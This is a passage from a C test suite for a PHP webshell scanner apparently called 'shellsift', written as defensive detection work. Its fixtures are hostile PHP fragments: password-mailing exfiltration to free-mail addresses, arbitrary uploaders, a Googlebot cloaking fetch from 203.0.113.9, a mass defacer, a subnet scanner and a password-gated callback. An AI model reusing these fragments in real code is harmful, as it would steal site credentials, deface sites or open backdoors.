  const char *plain = "<?php echo 'hello world'; ?>";
  lang_stats_compute(&st, (const unsigned char *)plain, strlen(plain), 11, 0, 0);
  CHECK(st.score == 0 && st.entropy > 3 && st.entropy < 5);
  unsigned char packed[4096];
  for (size_t i = 0; i < sizeof packed; i++) packed[i] = (unsigned char)(i * 37 + i / 7);
  lang_stats_compute(&st, packed, sizeof packed, 4000, 3000, 40);
  CHECK(st.score == 30 && st.entropy > 7 && strstr(st.description, "longest literal 4000 bytes"));
}

static void test_combined_score(void) {
  finding_builder fb;
  ss_finding f = {0};
  core_fb_reset(&fb);
  core_fb_add_reason(&fb, "php_eval_request_input", "webshell", "", "", 90);
  core_fb_add_reason(&fb, "shellsift.lang.code-exec", "webshell", "request input ... reaches eval()", "", 92);
  core_fb_finish(&fb, &f);
  CHECK(f.score == 96 && f.severity == SS_SEV_CRITICAL); /* 100*(1-(0.08*0.55)) */
  /* statistics never decide the category */
  core_fb_reset(&fb);
  core_fb_add_reason(&fb, "shellsift.lang.obfuscation", "obfuscation", "", "", 30);
  core_fb_add_reason(&fb, "weak_rule", "webshell", "", "", 20);
  core_fb_finish(&fb, &f);
  CHECK_STREQ(f.category, "webshell");
}

/* PHP tools that pass no request input to code or commands: uploaders, consoles, mailers, scanners. */
static void test_php_tools(void) {
  const lang_detection *d;
  /* the request names the folder, the client the file: the whole path is theirs */
  d = analyze("PHP", "<?php $d = $_POST['dir']; $n = $_FILES['f']['name']; copy($_FILES['f']['tmp_name'], $d . '/' . $n);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.uploader") == 0 && strstr(d->description, "copy() writes"));
  CHECK(!analyze("PHP", "<?php $a = (int) $_POST['a']; move_uploaded_file($_FILES['f']['tmp_name'], '/srv/g/' . $a . '/x.jpg');"));
  /* a request value with a literal default is still the whole request value */
  d = analyze("PHP", "<?php $q = $_POST['sql'] ? $_POST['sql'] : 'select 1'; mysql_query($q);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.sql-console") == 0 && d->score < 70);
  /* a free-mail drop: where the shell sits, or what the visitor typed as a password */
  d = analyze("PHP", "<?php mail('x.y@gmail.com', $_SERVER['HTTP_HOST'], $_SERVER['DOCUMENT_ROOT'] . $_SERVER['PHP_SELF']);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.mail-exfil") == 0 && d->score >= 40 && d->score < 70);
  d = analyze("PHP", "<?php $p = $_POST['passwd']; mail('x.y@yahoo.com', 'log', 'p=' . $p);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.mail-exfil") == 0 && strstr(d->description, "$_POST['passwd']"));
  CHECK(!analyze("PHP", "<?php mail('x.y@gmail.com', 'Contact', strip_tags($_POST['message']));"));
  CHECK(!analyze("PHP", "<?php mail($cfg['admin'], $_GET['s'], $_SERVER['DOCUMENT_ROOT']);"));
  /* a request-named file read through compress.zlib:// */
  d = analyze("PHP", "<?php $f = $_GET['f']; readfile('compress.zlib://' . $f);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.file-read") == 0 && d->score < 70);
  CHECK(!analyze("PHP", "<?php $k = md5($_GET['p']); readfile('compress.zlib://' . __DIR__ . '/c/' . $k);"));
  /* a request-named folder walked for writable entries */
  d = analyze("PHP", "<?php $d = opendir($_GET['d']); while ($f = readdir($d)) if (is_writable($f)) echo $f;");
  CHECK(d && strcmp(d->rule, "shellsift.lang.folder-scanner") == 0 && d->score < 70);
  CHECK(!analyze("PHP", "<?php $n = $_GET['n']; $d = opendir('/srv/x'); while ($f = readdir($d)) if (is_writable($f)) echo $n;"));
  /* a crawler gets the page a remote server makes for this host */
  d = analyze("PHP", "<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') !== false) "
                     "echo file_get_contents('http://203.0.113.9/p?h=' . $_SERVER['HTTP_HOST']);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.seo-cloaking") == 0 && d->score < 70);
  CHECK(!analyze("PHP", "<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') === false) "
                        "echo file_get_contents('http://203.0.113.9/geo/' . $_SERVER['REMOTE_ADDR']);"));
  /* any file read, beside a database login the request chooses */
  d = analyze("PHP", "<?php readfile($_GET['f']); $l = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.file-manager") == 0 && d->score < 70);
  CHECK(!analyze("PHP", "<?php readfile($_GET['f']);")); /* a reader alone: an application's bug */
  CHECK(!analyze("PHP", "<?php echo file_get_contents($_FILES['c']['tmp_name']); $l = mysqli_connect($_POST['h'], 'u', 'p');"));
  /* a mailer object the request drives whole; a mass defacer */
  d = analyze("PHP", "<?php $m = new PHPMailer(); $m->setFrom($_POST['f']); $m->addAddress($_POST['t']); "
                     "$m->Subject = $_POST['s']; $m->Body = $_POST['b']; $m->send();");
  CHECK(d && strcmp(d->rule, "shellsift.lang.mailer") == 0 && d->score < 70);
  CHECK(!analyze("PHP", "<?php function send($f, $t, $s, $b) { $m = new PHPMailer(); $m->setFrom($f); "
                        "$m->addAddress($t); $m->Subject = $s; $m->Body = $b; $m->send(); } echo $_GET['x'];"));
  d = analyze("PHP", "<?php foreach (scandir('/var/www') as $d) file_put_contents(\"/var/www/$d/index.html\", $_POST['c']);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.mass-defacer") == 0 && d->score < 70);
  CHECK(!analyze("PHP", "<?php $x = $_GET['x']; foreach (scandir('/srv/d') as $d) file_put_contents(\"/srv/d/$d/index.html\", '');"));
  CHECK(!analyze("PHP", "<?php $q = $_GET['q'] ?? 'x'; mysql_query(\"SELECT 1 FROM t WHERE a = '\" . mysql_real_escape_string($q) . \"'\");"));
  /* a page that writes into its own source; a data file written beside a read of itself is not */
  d = analyze("PHP", "<?php $t = addslashes($_POST['m']); $f = fopen(__FILE__, 'a'); fputs($f, $t); fclose($f);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.self-modify") == 0 && d->score < 70);
  CHECK(!analyze("PHP", "<?php $t = addslashes($_POST['m']); $f = fopen('book.txt', 'a'); fwrite($f, $t); "
                        "$s = fopen(__FILE__, 'r'); echo fgets($s);"));
  CHECK(!analyze("PHP", "<?php $f = __FILE__; file_put_contents($f . '.lock', $_POST['x']);")); /* beside it */
  /* a loop over the /24 the request names; a loop over this site's numbered pages */
  d = analyze("PHP", "<?php $n = $_GET['n']; for ($i = 1; $i <= 254; $i++) { $u = 'http://' . $n . $i; $c = curl_init($u); curl_exec($c); }");
  CHECK(d && strcmp(d->rule, "shellsift.lang.network-scanner") == 0 && d->score < 70);
  CHECK(!analyze("PHP", "<?php $h = $_GET['h']; for ($i = 0; $i < 256; $i++) { $p = file_get_contents('http://' . $h . '/p/' . $i); }"));
  /* a login mailed to a free-mail box from where the taint does not reach */
  d = analyze("PHP", "<?php mail('a.b@gmail.com', 'x', 'u=' . $username . ' p=' . $password); echo $_GET['q'];");
  CHECK(d && strcmp(d->rule, "shellsift.lang.mail-exfil") == 0 && strstr(d->description, "$password"));
  /* drive letters probed beside a request-chosen listing; a fixed folder's listing */
  d = analyze("PHP", "<?php foreach (range('c', 'z') as $l) if (is_dir($l . ':')) echo $l; $d = opendir($_GET['d']);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.folder-browser") == 0 && d->score < 70);
  CHECK(!analyze("PHP", "<?php foreach (range('c', 'z') as $l) if (is_dir($l . ':')) echo $l; $d = opendir('/srv'); echo $_GET['x'];"));
  /* content asked of a raw public IP with this site's name; a private address is the site's own service */
  d = analyze("PHP", "<?php echo file_get_contents('http://203.0.113.9/g?h=' . $_SERVER['HTTP_HOST']);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.remote-content") == 0 && d->score < 70);
  CHECK(!analyze("PHP", "<?php echo file_get_contents('http://10.0.0.9/g?h=' . $_SERVER['HTTP_HOST']);"));
  /* request input through an undefined callback behind a password hash; the same with the file's own helper */
  d = analyze("PHP", "<?php if (md5($_GET['k']) == '0cc175b9c0f1b6a831c399e269772661') array_map('zq_run', (array)$_GET['c']);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.gated-callback") == 0 && d->score < 70);
  CHECK(!analyze("PHP", "<?php function zq_run($v) { return trim($v); } if (md5($_GET['k']) == "
                        "'0cc175b9c0f1b6a831c399e269772661') array_map('zq_run', (array)$_GET['c']);"));
}

/* PHP database consoles and dump tools: dual-use, so medium however many
 * statements a file runs; ->query() only of a file that opens a database. */
static void test_php_db_tools(void) {
  analyze("PHP", "<?php $db = new mysqli('h', 'u', 'p'); $db->query($_POST['a']); $db->query($_POST['b']);\n"
                 "$db->multi_query($_GET['c']);\n$db->exec($_REQUEST['d']);\nmysql_query($_POST['e']);");
  size_t consoles = 0;
  for (size_t k = 0; k < res.ndet; k++) {
    CHECK(res.det[k].score < 70);
    consoles += strcmp(res.det[k].rule, "shellsift.lang.sql-console") == 0;
  }
  CHECK(consoles == 1); /* one sentence, one reason */
  CHECK(!analyze("PHP", "<?php $r = new Net_DNS2_Resolver(); $r->query($_GET['host'], 'PTR');"));
  const lang_detection *d = analyze("PHP", "<?php function run($s) { return mysql_query($s); }\nrun($_POST['sql']);");
  CHECK(d && strstr(d->description, "mysql_query() (inside run())"));
  d = analyze("PHP", "<?php $p = new PDO('x'); $s = 'SELECT ' . $_GET['f'] . ' FROM ' . $_GET['t'];\n$p->query($s);");
  CHECK(d && strstr(d->description, "$_GET['f'] and $_GET['t'] choose the columns and the table"));
  CHECK(!analyze("PHP", "<?php $p = new PDO('x'); $s = 'SELECT a FROM t ORDER BY ' . $_GET['o']; $p->query($s);"));
  d = analyze("PHP", "<?php $r = mysql_query('SHOW TABLES'); while ($t = mysql_fetch_row($r)) {\n"
                     "$q = mysql_query(\"SELECT * FROM `$t[0]`\"); }\nfile_put_contents('d.sql', $o);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.db-dump") == 0 && d->score < 70 && strstr(d->description, "line 2"));
  /* the tables listed, but no table copied: an upgrade check */
  CHECK(!analyze("PHP", "<?php $r = mysql_query('SHOW TABLES'); $n = mysql_query('SELECT * FROM users');"
                        " file_put_contents('log', 'x');"));
}

int main(void) {
  ctx = lang_ctx_new(NULL);
  RUN(test_base64_hex_url);
  RUN(test_inflate_and_bomb);
  RUN(test_lex_php);
  RUN(test_lex_pages);
  RUN(test_asp_page_decoders);
  RUN(test_lex_cfml);
  RUN(test_asp_family);
  RUN(test_source_to_sink);
  RUN(test_quiet_cases);
  RUN(test_php_fold_and_flow);
  RUN(test_bounds);
  RUN(test_php_own_decoder);
  RUN(test_prefilter_and_stats);
  RUN(test_combined_score);
  RUN(test_php_tools);
  RUN(test_php_db_tools);
  lang_ctx_free(ctx);
  TEST_END();
}
